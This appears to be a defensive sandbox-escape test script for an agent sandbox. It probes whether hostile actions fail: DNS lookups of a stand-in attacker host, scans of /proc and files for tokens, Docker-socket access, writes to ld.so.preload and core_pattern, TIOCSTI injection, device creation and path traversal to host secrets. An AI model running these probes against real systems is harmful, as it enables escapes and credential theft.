# SPDX-License-Identifier: Apache-2.0
"""Runs inside a sandbox, in its current directory: tries what a hostile
program would, and prints {"attacks": [[item, name, passed, code, wanted,
seen]...], "controls": [[item, name, ok, seen]...]} as JSON. Takes the facts
of the host it would like to reach from facts.json. Standard library only;
knows nothing of who started it. It asks for rights and uses none: should a
wall be missing, the machine behind it must stay as it was."""
import concurrent.futures
import contextlib
import ctypes
import errno
import fcntl
import io
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import urllib.request

sys.path.insert(0, os.getcwd())
import vectors  # noqa: E402

PROXY = ("127.0.0.1", 3128)
LIBC = ctypes.CDLL(None, use_errno=True)
with open("facts.json", encoding="utf-8") as _file:
    FACTS = json.load(_file)
HELD = {}
for _name in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError):
        HELD[_name] = os.readlink(f"/proc/self/fd/{_name}")
ATTACKS, CONTROLS = [], []
LISTED, OTHER = "api.example.test", "other.example.net"
PLAIN = "http://plain.example.test/"


def wanted(*items):
    """Whether any of these is asked for: a run may want but a few."""
    return not FACTS["items"] or any(one in FACTS["items"] for one in items)


def attack(item, name, passed, code="", wanted="", seen=""):
    ATTACKS.append([item, name, bool(passed), code, wanted, str(seen)[:300]])


def control(items, name, ok, seen=""):
    for item in items:
        CONTROLS.append([item, name, bool(ok), str(seen)[:300]])


def fails(item, name, call, *words):
    """An action that must not work; its error is what is seen."""
    try:
        result = call(*words)
    except OSError as error:
        attack(item, name, False, seen=errno.errorcode.get(
            error.errno, type(error).__name__))
        return
    attack(item, name, True, seen=repr(result))


def works(items, name, call, *words):
    try:
        result = call(*words)
        control(items, name, True, repr(result))
    except (OSError, ValueError) as error:
        control(items, name, False, repr(error))


def read(path):
    with open(path, "rb") as file:
        return file.read(64)


def write(path):
    """Open to write; nothing is written, and a new file goes again."""
    there = os.path.exists(path)
    with open(path, "ab"):
        pass
    if not there:
        os.unlink(path)
    return path


def make(path):
    with open(path, "ab") as file:
        file.write(b"x")
    return path


def dial(address, family=socket.AF_UNIX):
    with socket.socket(family) as end:
        end.settimeout(2)
        end.connect(address)
        return address


def syscall(number, *words):
    ctypes.set_errno(0)
    result = LIBC.syscall(number, *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def ask(target, seconds=10):
    """The code of a CONNECT; "200" when it is allowed."""
    got = vectors.attempt(PROXY, "authority", target.encode(), seconds)
    return "200" if got["status"] == 200 else got["reason"]


def direct(name, port=443, verify=False):
    """A TLS handshake by name, without a proxy."""
    context = ssl.create_default_context()
    if not verify:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((name, port), 5) as conn:
        with context.wrap_socket(conn, server_hostname=name) as tls:
            return tls.version()


def fetch(url, proxies=None):
    """By a client that takes its proxy from there; {} for none."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    with opener.open(url, timeout=8) as answer:
        return answer.read(100).decode()


def table():
    """Every vector, through the sandbox's own port."""
    rows = [row for row in vectors.rows() if row[0][:1] == "b"
            and wanted(int(row[0][1:4]))]

    def play(row):
        name, kind, payload, code = row
        item = int(name[1:4])
        try:
            got = vectors.attempt(PROXY, kind, payload, 25)
        except OSError as error:
            return item, name, False, repr(error), code, "unreachable"
        if kind != "hello":
            return (item, name, got["status"] == 200, got["reason"], code,
                    got)
        return (item, name, got["bytes"] or not got["closed"],
                f"log:{code}" if got["status"] == 200 else got["reason"],
                f"log:{code}", got)

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        for row in pool.map(play, rows):
            attack(*row)
    items = {int(row[0][1:4]) for row in rows}
    for target in (LISTED + ":443", LISTED.upper() + ".:443"):
        try:
            answer = ask(target)
        except OSError as error:
            answer = repr(error)
        control(items | {67, 68, 112, 26}, f"CONNECT {target}",
                answer == "200", answer)
    attack(26, "a name that is not listed", ask(OTHER + ":443") == "200",
           ask("data.secret.example.net:443"), "host_not_allowed")
    for host in FACTS["registries"]:
        code = ask(host + ":443")
        attack(112, host, code == "200", code, "host_not_allowed")


def lookups():
    """27, 30: no resolver, no port 53."""
    for host in (OTHER, "secret-data.attacker.example"):
        fails(27, f"getaddrinfo {host}", socket.getaddrinfo, host, 443)
    servers = ["127.0.0.53", "8.8.8.8"]
    with contextlib.suppress(OSError):
        with open("/etc/resolv.conf", encoding="utf-8") as file:
            servers += [line.split()[1] for line in file
                        if line.startswith("nameserver")]
    for kind, item in ((1, 27), (65, 30), (64, 30)):
        query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                 + b"\x03dns\x06google\x00" + struct.pack("!HH", kind, 1))
        for server in servers[:4]:
            fails(item, f"type {kind} of {server}", datagram, server, 53,
                  query)
            fails(item, f"type {kind} of {server} by TCP", dial,
                  (server, 53), socket.AF_INET)
    control((27, 30), "a listed name is known",
            *known(LISTED))


def known(name):
    try:
        return True, socket.getaddrinfo(name, 443)[0][4]
    except OSError as error:
        return False, error


def datagram(server, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.settimeout(1)
        end.sendto(data, (server, port))
        return end.recv(512)


def ways_out():
    """25, 63, 65, 66, 61: without the proxy, and around it."""
    fails(25, "a public address", dial, ("93.184.215.14", 443),
          socket.AF_INET)
    fails(25, "a public address of IPv6", dial,
          ("2606:2800:220:1:248:1893:25c8:1946", 443), socket.AF_INET6)
    for port in (8443, 22, 80):
        fails(63, f"the listed host, port {port}", dial, (LISTED, port),
              socket.AF_INET)
    fails(63, "a service of the host's loopback", dial,
          ("127.0.0.1", FACTS["port"]), socket.AF_INET)
    fails(63, "a service of the host by its address", dial,
          (FACTS["address"], FACTS["port"]), socket.AF_INET)
    works((25, 63, 66), "the listed host by name, port 443", direct, LISTED)
    fails(66, "another host by name, without proxy variables", direct, OTHER)
    fails(66, "plain HTTP without proxy variables", fetch,
          f"http://{OTHER}/", {})
    for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
        attack(66, f"{name} is missing", not os.environ.get(name),
               seen=os.environ.get(name))
    attack(66, "NODE_USE_ENV_PROXY is missing",
           os.environ.get("NODE_USE_ENV_PROXY") != "1")
    works((65,), "plain HTTP through the proxy", fetch, PLAIN)
    kept = {name: os.environ.get(name) for name in ("NO_PROXY", "no_proxy")}
    os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"
    fails(65, "NO_PROXY=* and another host", fetch, f"http://{OTHER}/")
    fails(65, "NO_PROXY=* and a service of the host", fetch,
          f"http://127.0.0.1:{FACTS['port']}/")
    for name, value in kept.items():
        os.environ.pop(name)
        if value is not None:
            os.environ[name] = value
    relay()


def relay():
    """61: who asks, and through what, changes nothing."""
    server = socket.create_server(("127.0.0.1", 0))

    def serve():
        while True:
            client, _ = server.accept()
            out = socket.create_connection(PROXY, 5)

            def copy(one, other):
                with contextlib.suppress(OSError):
                    while data := one.recv(65536):
                        other.sendall(data)
                    other.shutdown(socket.SHUT_WR)

            for pair in ((client, out), (out, client)):
                threading.Thread(target=copy, args=pair,
                                 daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    for target in (OTHER + ":443", LISTED + ":22", "127.0.0.11:443"):
        own = ask(target)
        got = vectors.attempt(server.getsockname(), "authority",
                              target.encode(), 10)
        other = subprocess.run(
            [sys.executable, "-c", "import sys; sys.path.insert(0, '.'); "
             "import vectors; print(vectors.attempt(('127.0.0.1', 3128), "
             f"'authority', {target.encode()!r}, 10)['reason'])"],
            capture_output=True, text=True, timeout=30)
        attack(61, target + " by a relay and by another process",
               {own, got["reason"], other.stdout.strip()} != {own}
               or own == "200", own, seen=(got, other))
    got = vectors.attempt(server.getsockname(), "authority",
                          (LISTED + ":443").encode(), 10)
    control((61,), "a listed host by the relay", got["status"] == 200, got)


def rules():
    """64, 99: interfaces, rules and sockets of other kinds."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        # What it has already is set: the same right, without a change.
        for what, get, put in (("state", 0x8913, 0x8914),
                               ("address", 0x8915, 0x8916),
                               ("MTU", 0x8921, 0x8922)):
            now = fcntl.ioctl(end, get, struct.pack("40s", b"lo"))
            fails(64, f"the {what} of lo is set", fcntl.ioctl, end, put, now)
    fails(64, "a rule is read by a raw socket", socket.socket,
          socket.AF_INET, socket.SOCK_RAW, 255)
    fails(64, "a route by netlink", route)
    fails(64, "a network namespace", syscall, NUMBERS["unshare"], 0x40000000)
    fails(64, "a user namespace", syscall, NUMBERS["unshare"], 0x10000000)
    with open("/proc/self/status", encoding="ascii") as file:
        status = dict(line.split(":\t", 1) for line in file.read()
                      .splitlines() if ":\t" in line)
    attack(64, "capabilities", int(status["CapEff"], 16) or int(
        status["CapBnd"], 16) & 1 << 12, seen=status["CapEff"])
    with open("/proc/net/dev", encoding="ascii") as file:
        devices = [line.split(":")[0].strip() for line in file
                   if ":" in line]
    attack(64, "an interface besides lo", devices != ["lo"], seen=devices)
    control((64,), "lo is up: a listener of its own", *loopback())
    fails(99, "UDP to a public address", datagram, "8.8.8.8", 53, b"x")
    for label, family, kind, number in (
            ("a raw socket", socket.AF_INET, socket.SOCK_RAW, 1),
            ("ICMP", socket.AF_INET, socket.SOCK_DGRAM, 1),
            ("a packet socket", 17, socket.SOCK_RAW, 3),
            ("SCTP", socket.AF_INET, socket.SOCK_STREAM, 132),
            ("vsock", 40, socket.SOCK_STREAM, 0),
            ("Bluetooth", 31, socket.SOCK_RAW, 1),
            ("crypto", 38, 5, 0), ("XDP", 44, socket.SOCK_RAW, 0)):
        fails(99, label, beyond, family, kind, number)
    control((99,), "TCP on lo", *loopback())


def beyond(family, kind, number):
    """A socket that reaches somewhere; one that does not is no way out."""
    with socket.socket(family, kind, number) as end:
        if family != socket.AF_INET:
            return end.family
        end.settimeout(1)
        end.connect(("8.8.8.8", 9))
        return end.send(b"x")


def loopback():
    try:
        with socket.create_server(("127.0.0.1", 0)) as server:
            with socket.create_connection(server.getsockname(), 3):
                return True, ""
    except OSError as error:
        return False, error


def route():
    """A route by lo to an address of the documentation, and the answer."""
    with socket.socket(16, socket.SOCK_RAW, 0) as end:
        end.settimeout(2)
        body = struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
        body += struct.pack("HH4sHHI", 8, 1, b"\xc6\x33\x64\x4d", 8, 4, 1)
        end.send(struct.pack("IHHII", 16 + len(body), 24, 0x605, 1, 0)
                 + body)
        code = struct.unpack("i", end.recv(4096)[16:20])[0]
        if code:
            raise OSError(-code, "")
        return "added"


NUMBERS = {"x86_64": {"unshare": 272, "io_uring_setup": 425, "getpid": 39},
           "aarch64": {"unshare": 97, "io_uring_setup": 425,
                       "getpid": 172}}[os.uname().machine]


def environments():
    """90, 91, 92: what belongs to the caller."""
    marks = [mark.encode() for mark in FACTS["marks"]]
    found, opened = [], 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for file in ("environ", "cmdline"):
            for path in {f"/proc/{pid}/{file}",
                         f"/proc/{pid}/task/{pid}/{file}"}:
                with contextlib.suppress(OSError):
                    with open(path, "rb") as data:
                        text = data.read()
                    opened += 1
                    found += [path for mark in marks if mark in text]
                    if pid == "1" and file == "environ" and text:
                        words = text.split(b"\0")
                        attack(90, "a token of the first process", any(
                            any(sign in word.split(b"=")[0].upper() for sign
                                in (b"TOKEN", b"SECRET", b"_KEY", b"AUTH"))
                            for word in words), seen=words)
    attack(92, "the caller's secret in /proc", found, seen=found)
    fails(92, "memory of the first process", read, "/proc/1/mem")
    fails(92, "files of the first process", os.listdir, "/proc/1/root")
    first()
    own = {name: value for name, value in os.environ.items()}
    attack(91, "the caller's secret in the environment", any(
        mark in repr(own) for mark in FACTS["marks"]), seen=sorted(own))
    attack(91, "sessions and agents of the caller", set(own) & {
        "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "SSH_AUTH_SOCK",
        "XDG_RUNTIME_DIR", "DOCKER_HOST", "AGENTNODE_HOME", "KUBECONFIG"},
        seen=sorted(own))
    attack(90, "a token in the environment", [
        name for name in own if any(sign in name.upper() for sign in (
            "TOKEN", "SECRET", "API_KEY", "AUTH"))], seen=sorted(own))
    left = []
    for root in ("/etc", "/run", "/tmp", "/sandbox-home", "/work", "/pack",
                 "/var/tmp", "/dev/shm"):
        for place, _folders, files in os.walk(root):
            for name in files[:200]:
                path = os.path.join(place, name)
                if name == "facts.json" or not os.path.isfile(path) or \
                        os.path.getsize(path) > 1 << 20:
                    continue
                with contextlib.suppress(OSError):
                    with open(path, "rb") as file:
                        data = file.read()
                    left += [path for mark in marks if mark in data]
    attack(92, "the caller's secret in a file", left, seen=left)
    control((90, 91, 92), "PATH and HOME are set, /proc is read",
            "PATH" in own and "HOME" in own and opened > 1, sorted(own))


def first():
    """92: what the first process has open. A guest kernel tells everybody
    its numbers; what they lead to nobody may open, whatever the way."""
    numbers = []
    for place in ("/proc/1/fd", "/proc/1/task/1/fd"):
        if FACTS["guest"]:
            numbers += [f"{place}/{name}" for name in os.listdir(place)]
        else:
            fails(92, f"descriptors in {place}", os.listdir, place)
            numbers += [f"{place}/{name}" for name in range(128)]
    opened = []
    for path in numbers:
        for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
            opened += held(path, flags | os.O_NONBLOCK)
    attack(92, "a descriptor of the first process is opened", opened,
           seen=opened)
    if FACTS["guest"]:
        control((92,), "it has some", len(numbers) > 8, numbers)


def held(path, flags):
    """[path] when it opens, by itself or by a number that leads there; what
    the first process has of a sandbox's own /dev is everybody's."""
    found = []
    for way in (flags, os.O_PATH):
        try:
            end = os.open(path, way)
        except OSError:
            continue
        try:
            if way == os.O_PATH:
                os.close(os.open(f"/proc/self/fd/{end}", flags))
            if os.readlink(f"/proc/self/fd/{end}") != "/dev/null":
                found = [path]
        except OSError:
            pass
        finally:
            os.close(end)
    return found


def services():
    """67, 68, 96, 97: sockets of the host, controls of ours."""
    for path in ("/var/run/docker.sock", "/run/docker.sock",
                 "/run/podman/podman.sock", "/run/containerd/containerd.sock",
                 "/run/crio/crio.sock"):
        fails(96, path, dial, path)
    sockets = []
    for root in ("/run", "/var", "/tmp", "/work", "/pack", "/dev",
                 "/sandbox-home", "/agentnode", "/opt", "/srv", "/home"):
        for place, _folders, files in os.walk(root):
            for name in files:
                with contextlib.suppress(OSError):
                    if os.stat(os.path.join(place, name)).st_mode \
                            & 0o170000 == 0o140000:
                        sockets.append(os.path.join(place, name))
    for item in (68, 96):
        attack(item, "a socket in a file", sockets, seen=sockets)
    for name, address in (("an abstract socket", "\0" + FACTS["abstract"]),
                          ("the system bus", "/run/dbus/system_bus_socket"),
                          ("systemd", "/run/systemd/private"),
                          ("the display", "\0/tmp/.X11-unix/X0"),
                          ("a socket in a file", FACTS["socket"])):
        fails(97, name, dial, address)
    own = "\0attack-own-" + str(os.getpid())
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(own)
        server.listen()
        works((96, 97, 68), "an abstract socket of its own", dial, own)
    extra = [path for name, path in HELD.items() if int(name) > 2
             and not path.startswith("/proc/")]
    attack(68, "a descriptor besides 0, 1, 2", extra, seen=HELD)
    listeners()


def listeners():
    """68: nothing on lo understands anything but proxy requests."""
    with open("/proc/net/tcp", encoding="ascii") as file:
        rows = [line.split() for line in file.read().splitlines()[1:]]
    ports = {(socket.inet_ntoa(struct.pack("=I", int(
        row[1].split(":")[0], 16))), int(row[1].split(":")[1], 16))
        for row in rows if row[3] == "0A"}
    for address in sorted(ports):
        for verb in (b"GET /policy", b"PUT /allow", b"POST /control",
                     b"GET /stats"):
            try:
                with socket.create_connection(address, 3) as conn:
                    conn.sendall(verb + b" HTTP/1.1\r\nHost: localhost\r\n"
                                 b"Content-Length: 0\r\n\r\n")
                    status, fields = vectors.read_head(conn, 5)
            except OSError as error:
                status, fields = 0, {"error": str(error)}
            attack(68, f"{verb.decode()} at {address}", 200 <= status < 400,
                   fields.get("x-agentnode-reason"), seen=(status, fields))


def kernel():
    """98, 100, 103, 111."""
    fails(98, "io_uring_setup", syscall, NUMBERS["io_uring_setup"], 1,
          ctypes.create_string_buffer(256))
    control((98, 100), "another system call", syscall(NUMBERS["getpid"])
            == os.getpid())
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(compile(FACTS["calls"], "calls", "exec"), {})
    rows = [line.split() for line in out.getvalue().splitlines()]
    attack(100, "not every call was tried", len(rows) < 20, seen=rows)
    for name, answer in rows:
        attack(100, name, answer == "allowed", seen=answer)
    for path in ("/proc/timer_list", "/proc/keys", "/proc/kcore",
                 "/proc/sched_debug", "/sys/firmware/x", "/proc/scsi/scsi",
                 "/sys/kernel/debug", "/dev/mem", "/dev/kmsg"):
        fails(103, "read " + path, some, path)
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
                 "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper",
                 "/proc/sys/vm/panic_on_oom", "/proc/1/attr/current"):
        fails(103, "write " + path, write, path)
    works((103,), "read /proc/self/status", some, "/proc/self/status")
    devices()
    for fd in (0, 1, 2):
        fails(111, f"TIOCSTI on {fd}", fcntl.ioctl, fd, 0x5412, b"x")
    fails(111, "TIOCSTI on the terminal", terminal)
    ends = os.pipe()
    os.write(ends[1], b"abc")
    works((111,), "another ioctl", fcntl.ioctl, ends[0], 0x541b, bytes(4))


def devices():
    """64, 103: a device of the machine's by a number, where a guest kernel
    lets anybody make one: it leads nowhere."""
    kinds = {"mem": (1, 1), "port": (1, 4), "kmsg": (1, 11), "kvm": (10, 232),
             "disk": (8, 0), "root": (254, 0), "loop": (7, 0)}
    for name, number in kinds.items():
        kind = 0o060000 if number[0] in (7, 8, 254) else 0o020000
        fails(103, f"a device of its own: {name}", device, name, kind,
              number)
    for place in ("/dev/net/tun", "made-tun"):
        fails(64, f"an interface by {place}", tunnel, place)


def device(name, kind, number):
    """Makes it and reads of it."""
    path = f"made-{name}"
    os.mknod(path, 0o600 | kind, os.makedev(*number))
    try:
        return read(path)
    finally:
        os.unlink(path)


def tunnel(path):
    if path[0] != "/":
        os.mknod(path, 0o600 | 0o020000, os.makedev(10, 200))
    with open(path, "r+b", buffering=0) as file:
        return fcntl.ioctl(file, 0x400454ca, struct.pack(
            "16sH22x", b"attack0", 0x1001))


def terminal():
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")


def some(path):
    """Its first bytes; nothing at all is as good as an error."""
    if os.path.isdir(path):
        if os.listdir(path):
            return os.listdir(path)[:3]
        raise OSError(errno.ENODATA, "")
    data = read(path)
    if not data:
        raise OSError(errno.ENODATA, "")
    return data


def files():
    """101, 102, 104, 110: files of the host and of the sandbox itself."""
    for path in ("/etc/ld.so.preload", "/etc/profile.d/x.sh",
                 "/usr/local/bin/git", "/root/.bashrc", "/pack/.mcp.json",
                 "/opt/x", "/usr/lib/python3/dist-packages/x.py", "/bin/sh",
                 "/etc/hosts", "/etc/passwd", "/agentnode", "/.x"):
        fails(101, "write " + path, write, path)
    works((101, 102, 110), "a file in the scratch directory", make, "made")
    secret = FACTS["secret"]
    os.symlink(secret, "link")
    os.symlink(os.path.dirname(secret), "folder")
    os.symlink("made", "own")
    works((102, 110), "a link to a file of its own", read, "own")
    for item in (102, 110):
        fails(item, "a link to a file of the host", read, "link")
        fails(item, "a linked folder of the host", read,
              "folder/" + os.path.basename(secret))
    for path in (secret, "../" * 20 + secret[1:],
                 "/proc/self/root" + secret, "/proc/1/root" + secret,
                 "/proc/self/cwd/" + "../" * 20 + secret[1:],
                 "/usr/.." + secret, "/pack/../.." + secret):
        fails(110, "read " + path[:40], read, path)
    fails(104, "the caller's directory", os.listdir, FACTS["cwd"])
    fails(104, "a file made in the caller's directory", write,
          FACTS["cwd"] + "/made")
    works((104,), "its own directory", os.listdir, ".")


PARTS = ((table, range(1, 132)), (lookups, (27, 30)),
         (ways_out, (25, 61, 63, 65, 66)), (rules, (64, 99)),
         (environments, (90, 91, 92)), (services, (67, 68, 96, 97)),
         (kernel, (64, 98, 100, 103, 111)), (files, (101, 102, 104, 110)))
for part, items in PARTS:
    try:
        if wanted(*items):
            part()
    except Exception as error:  # what did not run has no verdict
        print(f"{part.__name__}: {error!r}", file=sys.stderr)
print(json.dumps({"attacks": ATTACKS, "controls": CONTROLS}))
